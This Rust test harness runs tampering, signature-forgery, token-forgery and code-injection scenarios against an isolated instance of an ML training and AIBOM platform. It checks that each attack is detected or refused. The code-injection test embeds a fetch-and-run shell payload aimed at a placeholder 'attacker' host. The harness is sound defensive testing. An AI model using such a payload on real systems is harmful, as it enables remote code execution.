//! Attack scenarios run against an isolated platform instance.

use std::collections::BTreeSet;
use std::fmt;
use std::path::PathBuf;
use std::time::Duration;

use aibomgen_cli::client::{Client, ClientError};
use aibomgen_cli::offline;
use aibomgen_core::aibom::{embed_signature, AibomDocument};
use aibomgen_core::attestation::KeyPair;
use aibomgen_core::model::outputs;
use aibomgen_core::orchestrator::{JobRequest, ObjectRef};
use aibomgen_core::report::{StorageReport, VerificationReport};
use aibomgen_core::storage::{ObjectKey, Storage};
use aibomgen_core::worker::{Worker, INPUT_TAMPER_DETECTED};
use aibomgen_core::{ArtifactRef, JobRecord, JobState, Task, TrainingConfig};
use aibomgen_gateway::{BackgroundServer, GatewayConfig, Platform, TokenTable};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::Value;

use crate::fixtures;

pub const SUBJECT: &str = "harness";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scenario {
    InputMutate,
    ArtifactMutate,
    BomForge,
    LinkSwap,
    TokenForge,
    /// Job bodies carrying executable content must be refused.
    CodeInjection,
    /// Control runs with nothing tampered.
    Noop,
    /// Well-formed but semantically poisoned data. Not detectable by design.
    PoisonedDataset,
}

impl Scenario {
    pub const ALL: [Scenario; 8] = [
        Scenario::InputMutate,
        Scenario::ArtifactMutate,
        Scenario::BomForge,
        Scenario::LinkSwap,
        Scenario::TokenForge,
        Scenario::CodeInjection,
        Scenario::Noop,
        Scenario::PoisonedDataset,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Scenario::InputMutate => "INPUT_MUTATE",
            Scenario::ArtifactMutate => "ARTIFACT_MUTATE",
            Scenario::BomForge => "BOM_FORGE",
            Scenario::LinkSwap => "LINK_SWAP",
            Scenario::TokenForge => "TOKEN_FORGE",
            Scenario::CodeInjection => "CODE_INJECTION",
            Scenario::Noop => "NOOP",
            Scenario::PoisonedDataset => "POISONED_DATASET",
        }
    }

    pub fn expects_detection(self) -> bool {
        !matches!(self, Scenario::Noop | Scenario::PoisonedDataset)
    }
}

impl fmt::Display for Scenario {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl std::str::FromStr for Scenario {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Scenario::ALL
            .into_iter()
            .find(|sc| sc.name().eq_ignore_ascii_case(s))
            .ok_or_else(|| format!("unknown scenario {s:?}"))
    }
}

#[derive(Debug, Clone)]
pub struct Trial {
    pub label: String,
    pub detected: bool,
    pub detail: String,
}

#[derive(Debug, Clone)]
pub struct DetectionResult {
    pub scenario: Scenario,
    pub trials: Vec<Trial>,
}

impl DetectionResult {
    pub fn detections(&self) -> usize {
        self.trials.iter().filter(|t| t.detected).count()
    }

    /// Every trial detected, or none for scenarios that expect silence.
    pub fn passed(&self) -> bool {
        let want = if self.scenario.expects_detection() { self.trials.len() } else { 0 };
        !self.trials.is_empty() && self.detections() == want
    }

    pub fn unexpected(&self) -> impl Iterator<Item = &Trial> {
        let expect = self.scenario.expects_detection();
        self.trials.iter().filter(move |t| t.detected != expect)
    }
}

#[derive(Debug, thiserror::Error)]
#[error("harness setup failed: {0}")]
pub struct HarnessSetupFailed(pub String);

fn setup(e: impl fmt::Display) -> HarnessSetupFailed {
    HarnessSetupFailed(e.to_string())
}

/// The signed bundle of a completed job, as a verifier would hold it.
#[derive(Debug, Clone)]
pub struct CompletedJob {
    pub job: JobRecord,
    pub link: Vec<u8>,
    pub aibom: Vec<u8>,
}

impl CompletedJob {
    pub fn link_name(&self) -> String {
        outputs::link_name(&self.job.job_id)
    }

    pub fn aibom_name(&self) -> String {
        outputs::aibom_name(&self.job.job_id)
    }
}

/// Results of `/v1/verify/storage` and `/v1/verify/aibom` for one bundle.
#[derive(Debug, Clone)]
pub struct Inspection {
    pub storage: StorageReport,
    pub aibom: VerificationReport,
}

impl Inspection {
    pub fn passed(&self) -> bool {
        self.storage.passed && self.aibom.passed
    }

    /// Artifact names the reports blame.
    pub fn named_failures(&self, bundle: &CompletedJob) -> BTreeSet<String> {
        let mut names: BTreeSet<String> = self
            .storage
            .mismatched()
            .chain(self.aibom.artifacts.iter().filter(|r| !r.is_match()))
            .map(|r| r.name.clone())
            .collect();
        let link_blamed = !self.storage.envelope.passed
            || self.aibom.outcome("link_reference_digest_matches") == Some(false)
            || self.aibom.outcome("link_envelope_valid") == Some(false);
        if link_blamed {
            names.insert(bundle.link_name());
        }
        if self.aibom.outcome("aibom_signature_valid") == Some(false) || self.aibom.outcome("schema_valid") == Some(false) {
            names.insert(bundle.aibom_name());
        }
        names
    }

    fn summary(&self) -> String {
        let failed: Vec<String> = self
            .storage
            .envelope
            .failed_checks()
            .chain(self.aibom.failed_checks())
            .map(|c| c.name.clone())
            .chain(self.storage.mismatched().map(|r| format!("storage:{}", r.name)))
            .collect();
        if failed.is_empty() {
            "all checks pass".to_owned()
        } else {
            format!("failed: {}", failed.join(", "))
        }
    }
}

fn small_config(task: Task) -> TrainingConfig {
    let mut config = TrainingConfig::new(task, 5, 16, 0.05);
    config.seed = 7;
    config
}

/// An isolated gateway with no background workers; the harness runs queued
/// jobs itself so it can interfere between submission and execution.
pub struct Harness {
    server: BackgroundServer,
    client: Client,
    worker: Worker,
    rng: StdRng,
    _dir: tempfile::TempDir,
}

impl Harness {
    pub fn start(seed: u64) -> Result<Self, HarnessSetupFailed> {
        let dir = tempfile::tempdir().map_err(setup)?;
        let mut rng = StdRng::seed_from_u64(seed);
        let token = format!("harness-{:032x}", rng.gen::<u128>());
        let mut config = GatewayConfig::new(dir.path().join("platform"), TokenTable::new([(token.clone(), SUBJECT.into())]));
        config.workers = 0;
        config.sync_writes = false;
        let server = BackgroundServer::start(&config).map_err(setup)?;
        let client = Client::new(&server.url(), Some(token)).map_err(setup)?;
        let worker = server.platform().worker("harness-worker");
        Ok(Self {
            server,
            client,
            worker,
            rng,
            _dir: dir,
        })
    }

    pub fn client(&self) -> &Client {
        &self.client
    }

    pub fn platform(&self) -> &Platform {
        self.server.platform()
    }

    fn storage(&self) -> &Storage {
        &self.platform().state.storage
    }

    fn path_of(&self, namespace: &str, name: &str) -> Result<PathBuf, HarnessSetupFailed> {
        Ok(self.storage().object_path(&ObjectKey::new(namespace, name).map_err(setup)?))
    }

    pub fn stage(&self, name: &str, bytes: &[u8]) -> Result<ArtifactRef, HarnessSetupFailed> {
        self.client.upload(name, bytes.to_vec()).map_err(setup)
    }

    pub fn submit(&self, dataset: &ArtifactRef, config: TrainingConfig) -> Result<JobRecord, HarnessSetupFailed> {
        let request = JobRequest {
            dataset: ObjectRef::from(dataset),
            base_model: None,
            config,
        };
        self.client.submit(&request).map_err(setup)
    }

    /// Runs every queued job on the harness worker; returns how many ran.
    pub fn drain(&self) -> Result<usize, HarnessSetupFailed> {
        let mut n = 0;
        while self.worker.run_once().map_err(setup)?.is_some() {
            n += 1;
        }
        Ok(n)
    }

    /// Stages `csv`, submits it and runs it to a terminal state.
    pub fn run_job(&self, csv: &[u8], config: TrainingConfig) -> Result<JobRecord, HarnessSetupFailed> {
        let dataset = self.stage("train.csv", csv)?;
        let job = self.submit(&dataset, config)?;
        self.drain()?;
        self.client.wait(&job.job_id, Duration::from_secs(60)).map_err(setup)
    }

    pub fn completed_job(&mut self) -> Result<CompletedJob, HarnessSetupFailed> {
        let csv = fixtures::regression_csv(64, self.rng.gen());
        let job = self.run_job(&csv, small_config(Task::Regression))?;
        self.bundle(job)
    }

    /// Downloads the link and AIBOM of a completed job through grant URLs.
    pub fn bundle(&self, job: JobRecord) -> Result<CompletedJob, HarnessSetupFailed> {
        if job.state != JobState::Completed {
            return Err(setup(format!(
                "job {} ended {} ({})",
                job.job_id,
                job.state,
                job.failure_reason.as_deref().unwrap_or("no reason")
            )));
        }
        let grants = self.client.artifacts(&job.job_id).map_err(setup)?;
        let fetch = |name: &str| -> Result<Vec<u8>, HarnessSetupFailed> {
            let grant = grants
                .iter()
                .find(|g| g.artifact.name == name)
                .ok_or_else(|| setup(format!("no grant for {name}")))?;
            self.client.download(&grant.url).map_err(setup)
        };
        let link = fetch(&outputs::link_name(&job.job_id))?;
        let aibom = fetch(&outputs::aibom_name(&job.job_id))?;
        Ok(CompletedJob { job, link, aibom })
    }

    pub fn inspect(&self, bundle: &CompletedJob) -> Result<Inspection, HarnessSetupFailed> {
        Ok(Inspection {
            storage: self.client.verify_storage(bundle.link.clone()).map_err(setup)?,
            aibom: self.client.verify_aibom(bundle.aibom.clone()).map_err(setup)?,
        })
    }

    /// XORs one random byte of a stored object with a random nonzero mask.
    /// Returns the original bytes and a description of the change.
    fn flip_stored_byte(&mut self, namespace: &str, name: &str) -> Result<(Vec<u8>, String), HarnessSetupFailed> {
        let path = self.path_of(namespace, name)?;
        let original = std::fs::read(&path).map_err(setup)?;
        if original.is_empty() {
            return Err(setup(format!("{name} is empty")));
        }
        let offset = self.rng.gen_range(0..original.len());
        let mask: u8 = self.rng.gen_range(1..=255);
        let mut mutated = original.clone();
        mutated[offset] ^= mask;
        std::fs::write(&path, &mutated).map_err(setup)?;
        Ok((original, format!("byte {offset} ^ {mask:#04x}")))
    }

    fn write_stored(&self, namespace: &str, name: &str, bytes: &[u8]) -> Result<(), HarnessSetupFailed> {
        std::fs::write(self.path_of(namespace, name)?, bytes).map_err(setup)
    }

    pub fn run_scenario(&mut self, scenario: Scenario, trials: usize) -> Result<DetectionResult, HarnessSetupFailed> {
        let trials = match scenario {
            Scenario::InputMutate => self.input_mutate(trials)?,
            Scenario::ArtifactMutate => self.artifact_mutate(trials)?,
            Scenario::BomForge => self.bom_forge(trials)?,
            Scenario::LinkSwap => self.link_swap(trials)?,
            Scenario::TokenForge => self.token_forge(trials)?,
            Scenario::CodeInjection => self.code_injection(trials)?,
            Scenario::Noop => self.noop(trials)?,
            Scenario::PoisonedDataset => self.poisoned(trials)?,
        };
        Ok(DetectionResult { scenario, trials })
    }

    fn input_mutate(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let mut out = Vec::new();
        for i in 0..trials {
            let csv = fixtures::regression_csv(64, self.rng.gen());
            let staged = self.stage("train.csv", &csv)?;
            let job = self.submit(&staged, small_config(Task::Regression))?;
            let ns = staged.namespace.clone().unwrap_or_default();
            let label = if i % 2 == 0 {
                self.flip_stored_byte(&ns, &staged.name)?.1
            } else {
                let other = fixtures::regression_csv(64, self.rng.gen());
                self.write_stored(&ns, &staged.name, &other)?;
                "replaced with other valid CSV".to_owned()
            };
            self.drain()?;
            let job = self.client.status(&job.job_id).map_err(setup)?;
            let reason = job.failure_reason.clone().unwrap_or_default();
            out.push(Trial {
                label,
                detected: job.state == JobState::Failed && reason.starts_with(INPUT_TAMPER_DETECTED),
                detail: format!("{} {reason}", job.state),
            });
        }
        Ok(out)
    }

    /// Mutates each of dataset, model, metrics and link in turn. Detection
    /// means the reports blame exactly the mutated object.
    fn artifact_mutate(&mut self, per_artifact: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let bundle = self.completed_job()?;
        let baseline = self.inspect(&bundle)?;
        if !baseline.passed() {
            return Err(setup(format!("untampered job does not verify: {}", baseline.summary())));
        }
        let ns = bundle.job.job_id.clone();
        let targets = [
            outputs::DATASET.to_owned(),
            outputs::MODEL.to_owned(),
            outputs::METRICS.to_owned(),
            bundle.link_name(),
        ];
        let mut out = Vec::new();
        for target in &targets {
            for _ in 0..per_artifact {
                let (original, change) = self.flip_stored_byte(&ns, target)?;
                let inspection = self.inspect(&bundle);
                self.write_stored(&ns, target, &original)?;
                let inspection = inspection?;
                let blamed = inspection.named_failures(&bundle);
                out.push(Trial {
                    label: format!("{target}: {change}"),
                    detected: blamed.len() == 1 && blamed.contains(target),
                    detail: format!("blamed {blamed:?}; {}", inspection.summary()),
                });
            }
        }
        let after = self.inspect(&bundle)?;
        if !after.passed() {
            return Err(setup(format!("restored job does not verify: {}", after.summary())));
        }
        Ok(out)
    }

    fn bom_forge(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let bundle = self.completed_job()?;
        let platform_key_id = self.platform().signing_key.key_id().to_owned();
        let mut out = Vec::new();
        for i in 0..trials {
            let attacker = KeyPair::from_seed(self.rng.gen());
            let mut value: Value = serde_json::from_slice(&bundle.aibom).map_err(setup)?;
            value.as_object_mut().expect("AIBOM is an object").remove("signature");
            let label = match i % 3 {
                0 => {
                    value["properties"][0]["value"] = Value::String(format!("forged-{i}"));
                    "altered property, attacker key"
                }
                1 => {
                    value["properties"][0]["value"] = Value::String(format!("forged-{i}"));
                    "altered property, attacker key claiming platform key id"
                }
                _ => "unaltered content re-signed by attacker claiming platform key id",
            };
            let doc: AibomDocument = serde_json::from_value(value).map_err(setup)?;
            let mut forged = embed_signature(doc, &attacker).map_err(setup)?;
            if i % 3 != 0 {
                forged.signature.as_mut().expect("just signed").key_id = platform_key_id.clone();
            }
            let report = self.client.verify_aibom(forged.to_bytes().map_err(setup)?).map_err(setup)?;
            out.push(Trial {
                label: label.to_owned(),
                detected: report.outcome("aibom_signature_valid") == Some(false),
                detail: format!("report passed={}", report.passed),
            });
        }
        Ok(out)
    }

    /// Replaces the link a verifier sees with another job's validly signed
    /// link, alternately in storage and in the verifier's hands.
    fn link_swap(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let victim = self.completed_job()?;
        let pem = self.client.public_key_pem().map_err(setup)?;
        let key = aibomgen_core::attestation::PublicKey::from_pem(&pem).map_err(setup)?;
        let mut out = Vec::new();
        for i in 0..trials {
            let donor = self.completed_job()?;
            if !self.client.verify_link(donor.link.clone()).map_err(setup)?.passed {
                return Err(setup("donor link does not verify"));
            }
            let (label, report) = if i % 2 == 0 {
                let ns = victim.job.job_id.clone();
                self.write_stored(&ns, &victim.link_name(), &donor.link)?;
                let report = self.client.verify_aibom(victim.aibom.clone());
                self.write_stored(&ns, &victim.link_name(), &victim.link)?;
                ("stored link replaced", report.map_err(setup)?)
            } else {
                ("verifier handed donor link", offline::aibom(&victim.aibom, &donor.link, &key))
            };
            out.push(Trial {
                label: label.to_owned(),
                detected: report.outcome("link_reference_digest_matches") == Some(false),
                detail: format!("report passed={}", report.passed),
            });
        }
        Ok(out)
    }

    fn token_forge(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let bundle = self.completed_job()?;
        let grants = self.client.artifacts(&bundle.job.job_id).map_err(setup)?;
        if grants.len() < 2 {
            return Err(setup("need two grants to transplant tokens"));
        }
        let parse = |url: &str| -> Result<(String, i64, String), HarnessSetupFailed> {
            let (path, query) = url.split_once('?').ok_or_else(|| setup("grant URL has no query"))?;
            let mut expires = None;
            let mut token = None;
            for pair in query.split('&') {
                match pair.split_once('=') {
                    Some(("expires", v)) => expires = v.parse().ok(),
                    Some(("token", v)) => token = Some(v.to_owned()),
                    _ => {}
                }
            }
            Ok((
                path.to_owned(),
                expires.ok_or_else(|| setup("grant URL lacks expires"))?,
                token.ok_or_else(|| setup("grant URL lacks token"))?,
            ))
        };
        let mut out = Vec::new();
        for i in 0..trials {
            let (path, expires, token) = parse(&grants[i % grants.len()].url)?;
            let (other_path, _, _) = parse(&grants[(i + 1) % grants.len()].url)?;
            let (label, url) = match i % 4 {
                0 => {
                    let raw: [u8; 32] = self.rng.gen();
                    ("random 32-byte token", format!("{path}?expires={expires}&token={}", URL_SAFE_NO_PAD.encode(raw)))
                }
                1 => {
                    let len = self.rng.gen_range(1..64);
                    let raw: Vec<u8> = (0..len).map(|_| self.rng.gen()).collect();
                    ("random-length token", format!("{path}?expires={expires}&token={}", URL_SAFE_NO_PAD.encode(raw)))
                }
                2 => ("valid token moved to another object", format!("{other_path}?expires={expires}&token={token}")),
                _ => ("valid token with extended expiry", format!("{path}?expires={}&token={token}", expires + 3600)),
            };
            let outcome = self.client.download(&url);
            let (detected, detail) = match &outcome {
                Err(ClientError::Api { status: 403, code, .. }) if code == "invalid_token" => (true, "403 invalid_token".to_owned()),
                Err(e) => (false, e.to_string()),
                Ok(bytes) => (false, format!("served {} bytes", bytes.len())),
            };
            out.push(Trial {
                label: label.to_owned(),
                detected,
                detail,
            });
        }
        Ok(out)
    }

    fn code_injection(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let csv = fixtures::regression_csv(16, self.rng.gen());
        let staged = self.stage("train.csv", &csv)?;
        let base = serde_json::to_value(JobRequest {
            dataset: ObjectRef::from(&staged),
            base_model: None,
            config: small_config(Task::Regression),
        })
        .map_err(setup)?;
        const PAYLOADS: [(&str, &str); 6] = [
            ("", "command"),
            ("", "script"),
            ("", "entrypoint"),
            ("", "image"),
            ("config", "command"),
            ("config", "pre_train_hook"),
        ];
        let mut out = Vec::new();
        for i in 0..trials {
            let (parent, field) = PAYLOADS[i % PAYLOADS.len()];
            let mut body = base.clone();
            let target = if parent.is_empty() { &mut body } else { &mut body[parent] };
            target[field] = Value::String("sh -c 'curl attacker | sh'".into());
            let before = self.platform().state.orchestrator.jobs().len();
            let outcome = self.client.submit_raw(&body);
            let created = self.platform().state.orchestrator.jobs().len() != before;
            let (refused, detail) = match outcome {
                Err(ClientError::Api { status, code, .. }) if (400..500).contains(&status) => (true, format!("{status} {code}")),
                Err(e) => (false, e.to_string()),
                Ok(job) => (false, format!("accepted as {}", job.job_id)),
            };
            let path = if parent.is_empty() { field.to_owned() } else { format!("{parent}.{field}") };
            out.push(Trial {
                label: format!("field {path}"),
                detected: refused && !created,
                detail,
            });
        }
        Ok(out)
    }

    fn noop(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let mut out = Vec::new();
        for _ in 0..trials {
            let bundle = self.completed_job()?;
            out.push(self.control_trial(&bundle, "untampered run")?);
        }
        Ok(out)
    }

    /// Runs all four verification endpoints; "detected" means any failed.
    fn control_trial(&self, bundle: &CompletedJob, label: &str) -> Result<Trial, HarnessSetupFailed> {
        let inspection = self.inspect(bundle)?;
        let link = self.client.verify_link(bundle.link.clone()).map_err(setup)?;
        let model = self.download(bundle, outputs::MODEL)?;
        let hash = self
            .client
            .verify_hash(bundle.link.clone(), model, outputs::MODEL)
            .map_err(setup)?;
        let clean = inspection.passed() && link.passed && hash.is_match();
        Ok(Trial {
            label: label.to_owned(),
            detected: !clean,
            detail: format!("{}; link passed={}; model.bin {:?}", inspection.summary(), link.passed, hash.status),
        })
    }

    fn download(&self, bundle: &CompletedJob, name: &str) -> Result<Vec<u8>, HarnessSetupFailed> {
        let grants = self.client.artifacts(&bundle.job.job_id).map_err(setup)?;
        let grant = grants
            .iter()
            .find(|g| g.artifact.name == name)
            .ok_or_else(|| setup(format!("no grant for {name}")))?;
        self.client.download(&grant.url).map_err(setup)
    }

    fn poisoned(&mut self, trials: usize) -> Result<Vec<Trial>, HarnessSetupFailed> {
        let mut out = Vec::new();
        for _ in 0..trials {
            let csv = fixtures::flip_labels(&fixtures::classification_csv(64, self.rng.gen()));
            let job = self.run_job(&csv, small_config(Task::Classification))?;
            let bundle = self.bundle(job)?;
            out.push(self.control_trial(&bundle, "labels flipped before upload")?);
        }
        Ok(out)
    }
}

/// Scenario × detection table.
pub fn render_matrix(results: &[DetectionResult]) -> String {
    let mut s = format!("{:<18} {:>6} {:>9} {:>9}  {}\n", "scenario", "trials", "detected", "expected", "result");
    for r in results {
        let expected = if r.scenario.expects_detection() { r.trials.len() } else { 0 };
        let verdict = if r.passed() { "PASS" } else { "FAIL" };
        let note = if r.scenario == Scenario::PoisonedDataset { "  (documented blind spot)" } else { "" };
        s.push_str(&format!(
            "{:<18} {:>6} {:>9} {:>9}  {verdict}{note}\n",
            r.scenario.name(),
            r.trials.len(),
            r.detections(),
            expected
        ));
        for t in r.unexpected() {
            s.push_str(&format!("    unexpected: {} -> {}\n", t.label, t.detail));
        }
    }
    s
}
